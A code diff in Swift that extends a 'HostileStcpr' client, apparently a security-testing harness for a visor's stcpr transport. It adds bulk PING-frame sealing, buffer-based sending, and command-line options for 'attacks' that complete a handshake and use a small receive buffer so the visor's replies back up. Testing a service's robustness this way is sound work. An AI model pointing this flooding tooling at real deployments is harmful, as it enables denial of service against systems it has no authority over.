@@ -1,3 +1,4 @@
+import ArgumentParser
 #if canImport(Glibc)
 import Glibc
 #endif
@@ -84,16 +85,25 @@ struct HostileStcpr {
         setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, socklen_t(MemoryLayout<timeval>.size))
     }
 
-    /// Seals each frame as one record into one buffer.
-    mutating func records(_ frames: [MuxFrame<ArraySlice<UInt8>>]) throws -> [UInt8] {
-        var out = ByteBuffer()
+    /// Seals each frame as one record, appended to `out`.
+    mutating func seal(_ frames: [MuxFrame<ArraySlice<UInt8>>], into out: inout ByteBuffer) throws {
         var plain = ByteBuffer()
         for frame in frames {
             plain.clear()
             plain.writeWithUnsafeMutableBytes(minimumWritableBytes: frame.encodedLength) { (try? frame.encode(into: $0)) ?? 0 }
             try codec.seal(frame: plain, into: &out)
         }
-        return Array(out.readableBytesView)
+    }
+
+    /// Seals `count` PING frames (opaque values from `opaque` up), appended to `out`.
+    mutating func sealPings(_ count: Int, from opaque: UInt64, into out: inout ByteBuffer) throws {
+        var plain = ByteBuffer()
+        for i in 0..<UInt64(count) {
+            plain.clear()
+            plain.writeInteger(MuxFrameType.ping.rawValue)
+            plain.writeInteger(opaque &+ i)
+            try codec.seal(frame: plain, into: &out)
+        }
     }
 
     /// What one bounded send gave.
@@ -101,10 +111,10 @@ struct HostileStcpr {
 
     /// Sends `pending`, dropping what was sent from its front (a send that times out is
     /// `.stalled`: the visor stopped reading; the rest stays in `pending`).
-    func send(_ pending: inout ArraySlice<UInt8>) -> SendOutcome {
-        while !pending.isEmpty {
-            let n = pending.withUnsafeBytes { Glibc.send(fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
-            if n > 0 { pending.removeFirst(n); continue }
+    func send(_ pending: inout ByteBuffer) -> SendOutcome {
+        while pending.readableBytes > 0 {
+            let n = pending.withUnsafeReadableBytes { Glibc.send(fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
+            if n > 0 { pending.moveReaderIndex(forwardBy: n); continue }
             let e = errno
             if e == EINTR { continue }
             if e == EAGAIN || e == EWOULDBLOCK { return .stalled }
@@ -162,5 +172,19 @@ struct HostileStcpr {
         setrlimit(Int32(RLIMIT_NOFILE.rawValue), &limit)
         getrlimit(Int32(RLIMIT_NOFILE.rawValue), &limit)
         return Int(limit.rlim_cur)
+    }
+}
+
+/// The options of the attacks that complete a handshake with the visor.
+struct StcprTargetOptions: ParsableArguments {
+    @Option(help: "The visor's stcpr address, IP:PORT.") var addr: String
+    @Option(help: "The visor's public key (hex).") var pk: String
+    @Option(help: "SO_RCVBUF of the attacking socket (small: the visor's answers back up sooner).")
+    var rcvbuf: Int32 = 4096
+
+    /// Connects and completes the handshake as a fresh key.
+    func connect(sendTimeoutMillis: Int) throws -> HostileStcpr {
+        try HostileStcpr(target: try HostileStcpr.address(addr), remote: try PublicKey(hex: pk), receiveBuffer: rcvbuf,
+                         sendTimeoutMillis: sendTimeoutMillis)
     }
 }
